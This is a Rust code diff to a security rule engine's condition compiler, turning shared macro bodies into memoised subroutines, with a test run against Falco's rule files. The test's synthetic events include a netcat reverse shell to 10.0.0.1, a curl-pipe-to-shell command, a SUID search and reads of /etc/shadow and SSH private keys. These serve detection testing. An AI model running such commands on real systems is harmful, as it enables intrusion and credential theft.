@@ -32,8 +32,9 @@ enum Instr {
         f: u32,
         body: u32,
     },
-    /// Record a shared sub-condition's result, go on at `next`.
-    Set { slot: u32, val: bool, next: u32 },
+    /// Record a shared sub-condition's result and return to the use that
+    /// ran it.
+    Set { slot: u32, val: bool },
 }
 
 /// Every rule's condition as one program.
@@ -41,9 +42,13 @@ enum Instr {
 pub struct Program {
     code: Vec<Instr>,
     checks: Vec<Check>,
-    /// Check index by the address of the tree's check (shared macro bodies
-    /// are emitted once per use, their checks stored once).
+    /// Check index by the address of the tree's check (a check shared by
+    /// inlined macros is stored once).
     seen: HashMap<usize, u32>,
+    /// First instruction of each shared body, by memo slot.
+    bodies: HashMap<u32, u32>,
+    /// Memo slots the program uses (one more than the highest).
+    slots: usize,
 }
 
 /// Where a condition starts in a [`Program`].
@@ -64,6 +69,7 @@ impl Program {
     /// Drop what was only needed while adding conditions.
     pub fn finish(&mut self) {
         self.seen = HashMap::new();
+        self.bodies = HashMap::new();
         self.code.shrink_to_fit();
         self.checks.shrink_to_fit();
     }
@@ -98,18 +104,18 @@ impl Program {
                 self.push(Instr::Test { check, t, f })
             }
             Node::Shared(body, slot) => {
+                self.slots = self.slots.max(*slot + 1);
                 let slot = *slot as u32;
-                let set_t = self.push(Instr::Set {
-                    slot,
-                    val: true,
-                    next: t,
-                });
-                let set_f = self.push(Instr::Set {
-                    slot,
-                    val: false,
-                    next: f,
-                });
-                let body = self.emit(body, set_t, set_f);
+                let body = match self.bodies.get(&slot) {
+                    Some(&at) => at,
+                    None => {
+                        let set_t = self.push(Instr::Set { slot, val: true });
+                        let set_f = self.push(Instr::Set { slot, val: false });
+                        let at = self.emit(body, set_t, set_f);
+                        self.bodies.insert(slot, at);
+                        at
+                    }
+                };
                 self.push(Instr::Memo { slot, t, f, body })
             }
         }
@@ -122,6 +128,7 @@ impl Program {
 
     /// Evaluate the condition at `entry`.
     pub fn eval(&self, entry: Entry, ctx: &dyn Context, memo: &mut Memo) -> bool {
+        memo.ensure(self.slots);
         let mut pc = entry.0;
         loop {
             if pc >= FALSE {
@@ -138,11 +145,14 @@ impl Program {
                 Instr::Memo { slot, t, f, body } => match memo.get(slot as usize) {
                     Some(true) => t,
                     Some(false) => f,
-                    None => body,
+                    None => {
+                        memo.set_return(slot as usize, pc);
+                        body
+                    }
                 },
-                Instr::Set { slot, val, next } => {
+                Instr::Set { slot, val } => {
                     memo.set(slot as usize, val);
-                    next
+                    memo.return_to(slot as usize)
                 }
             };
         }
@@ -217,6 +227,84 @@ mod tests {
         assert!(
             seen[0] > 10 && seen[1] > 10,
             "both outcomes exercised: {seen:?}"
+        );
+    }
+
+    /// Falco's three files: the program (each macro body emitted once, a
+    /// subroutine) agrees with the tree on every rule, with the memo shared
+    /// across rules as the engine shares it, and stays smaller than the
+    /// rules expanded.
+    #[test]
+    fn program_agrees_with_the_tree_on_falcos_files() {
+        use peregrine_event::Exec;
+        let dir =
+            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/falco-upstream");
+        let files = [
+            "falco_rules.yaml",
+            "falco-incubating_rules.yaml",
+            "falco-sandbox_rules.yaml",
+        ];
+        let paths: Vec<_> = files.iter().map(|f| dir.join(f)).collect();
+        let e = Engine::from_files(&paths).unwrap_or_else(|e| panic!("{e}"));
+        let mut p = Program::default();
+        let entries: Vec<Entry> = e.rules().iter().map(|r| p.add(&r.condition)).collect();
+        let exec = |comm: &str, exe: &str, args: &[&str]| Event {
+            ts_ns: 1,
+            kind: EventKind::Exec,
+            syscall: Some(Syscall::Execve),
+            process: Process {
+                pid: 10,
+                comm: comm.into(),
+                ..Process::default()
+            },
+            data: EventData::Exec(Exec {
+                filename: exe.into(),
+                exe: exe.into(),
+                args: args.iter().map(|a| a.to_string()).collect(),
+                ..Exec::default()
+            }),
+        };
+        let mut events = vec![
+            exec("bash", "/bin/bash", &["bash", "-i"]),
+            exec(
+                "nc",
+                "/usr/bin/nc",
+                &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
+            ),
+            exec("sh", "/bin/sh", &["sh", "-c", "curl x | sh"]),
+            exec("find", "/usr/bin/find", &["find", "/", "-perm", "-4000"]),
+        ];
+        for comm in ["cat", "sshd", "python3"] {
+            for path in [
+                "/etc/shadow",
+                "/root/.ssh/id_rsa",
+                "/usr/bin/x",
+                "/dev/shm/x",
+                "/proc/1/mem",
+            ] {
+                for flags in [0, 1, 0o101] {
+                    events.push(open(comm, path, flags, 3));
+                }
+            }
+        }
+        let mut memo = e.memo();
+        let mut tree_memo = e.memo();
+        let mut hits = 0;
+        for ev in &events {
+            let ctx = EventOnly(ev);
+            memo.reset();
+            tree_memo.reset();
+            for (r, entry) in e.rules().iter().zip(&entries) {
+                let want = r.condition.eval_memo(&ctx, &mut tree_memo);
+                hits += want as usize;
+                assert_eq!(p.eval(*entry, &ctx, &mut memo), want, "{}", r.name);
+            }
+        }
+        assert!(hits > 5, "some rules match: {hits}");
+        let (code, checks) = p.size();
+        assert!(
+            code < 20_000 && checks < 5_000,
+            "{code} instructions, {checks} checks"
         );
     }
 }
